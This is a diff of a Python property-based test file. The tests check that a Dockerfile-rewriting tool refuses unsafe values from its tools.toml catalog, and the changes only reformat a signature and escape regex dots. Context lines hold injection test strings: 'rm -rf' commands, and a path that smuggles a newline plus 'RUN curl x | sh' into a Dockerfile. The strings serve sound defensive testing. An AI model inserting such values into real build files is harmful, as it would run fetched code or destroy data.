@@ -51,7 +51,8 @@ def _rewrite(ctx: Path):  # type: ignore[no-untyped-def]
 
 @settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
 @given(names=st.lists(st.one_of(HOSTILE, NASTY).map(lambda s: s + ".json"), min_size=1, max_size=3, unique=True))
-def test_models_context_writes_context_names_exactly(tmp_path_factory: pytest.TempPathFactory, names: list[str]) -> None:
+def test_models_context_writes_context_names_exactly(tmp_path_factory: pytest.TempPathFactory,
+                                                     names: list[str]) -> None:
     ctx = _models_context(tmp_path_factory.mktemp("ctx"), names)
     if any(FORBIDDEN.search(n) for n in names):
         with pytest.raises(UnsafeValue) as err:
@@ -106,7 +107,7 @@ def test_names_refused_with_their_origin(value: str) -> None:
                                       (quoting.word, "--no-cache dir"), (quoting.word, "/root/.cache,x=1"),
                                       (quoting.command, "rm -rf /x # gone"), (quoting.command, "rm -rf /x\nRUN y")])
 def test_data_values_that_would_become_syntax_are_refused(fn, value: str) -> None:  # type: ignore[no-untyped-def]
-    with pytest.raises(UnsafeValue, match="tools.toml"):
+    with pytest.raises(UnsafeValue, match=r"tools\.toml"):
         fn(value, "tools.toml")
 
 
@@ -116,7 +117,7 @@ def test_a_hostile_catalog_entry_is_refused(tmp_path: Path) -> None:
         '[[tool]]\nname = "evil"\npip = ["evil"]\nimage = "ghcr.io/x/evil:{version}"\nversion = "1"\n'
         'paths = ["/evil\\nRUN curl x | sh"]\ndest = "/usr/local/bin/"\nscripts = []\n')
     text = "FROM python:3.12\nRUN pip install evil\n"
-    with pytest.raises(UnsafeValue, match="tools.toml"):
+    with pytest.raises(UnsafeValue, match=r"tools\.toml"):
         rewrite(text, options=Options(only=frozenset({"tools-from-images"}), data=(str(tmp_path),)))
 
 
